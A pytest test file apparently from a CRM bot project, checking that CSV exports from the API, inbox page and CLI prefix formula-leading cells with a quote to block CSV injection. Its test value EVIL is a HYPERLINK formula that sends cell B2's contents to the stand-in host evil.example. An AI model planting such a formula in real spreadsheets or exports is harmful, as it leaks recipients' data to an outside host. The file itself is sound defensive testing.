"""Every CSV export neutralises cells a spreadsheet would run as a formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from click.testing import CliRunner

from bot.cli import main
from core.settings import get_settings
from crm.csv_export import safe_cell, stream_csv
from tests.broadcasts.helpers import make_campaign, run_to_end, seed
from tests.crm.inbox.conftest import as_role, staff  # noqa: F401 - fixtures

EVIL = '=HYPERLINK("http://evil.example/?x="&B2,"Klik")'


@pytest.mark.parametrize("value", [EVIL, "+62812", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "=", "-"])
def test_a_formula_start_becomes_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Budi", "", " =x", "a=b", "'=quoted", 5, -3, 1.5, None, True])
def test_other_cells_are_unchanged(value):
    assert safe_cell(value) is value


def test_stream_csv_batches_rows_and_reads_back():
    chunks = list(stream_csv(["name", "n"], ([f"=n{i}", i] for i in range(5)), batch=2))
    assert len(chunks) == 3
    rows = list(csv.reader(io.StringIO("".join(chunks))))
    assert rows == [["name", "n"]] + [[f"'=n{i}", str(i)] for i in range(5)]


@pytest.fixture
def campaign_id(runtime) -> int:
    """A campaign delivered to one customer whose name is a formula."""
    seed(runtime.engine, line=1, display_name=EVIL)
    campaign = make_campaign(runtime)
    run_to_end(runtime, campaign)
    return campaign


def _names(text: str) -> list[str]:
    return [row["display_name"] for row in csv.DictReader(io.StringIO(text))]


def test_api_inbox_and_cli_exports_neutralise_formulas(client, auth, as_role, runtime, campaign_id, tmp_path,
                                                       monkeypatch):
    api = client.get(f"/api/v1/campaigns/{campaign_id}/export.csv", headers=auth)
    assert api.status_code == 200 and _names(api.get_data(as_text=True)) == ["'" + EVIL]
    page = as_role("marketer").get(f"/inbox/campaigns/{campaign_id}/export.csv")
    assert page.status_code == 200 and _names(page.get_data(as_text=True)) == ["'" + EVIL]
    monkeypatch.setenv("SAPA_DATABASE_URL", runtime.settings.database_url)
    get_settings.cache_clear()
    target = tmp_path / "out.csv"
    try:
        result = CliRunner().invoke(main, ["campaigns", "export", str(campaign_id), "-o", str(target)])
    finally:
        get_settings.cache_clear()
    assert result.exit_code == 0, result.output
    assert _names(target.read_text(encoding="utf-8")) == ["'" + EVIL]
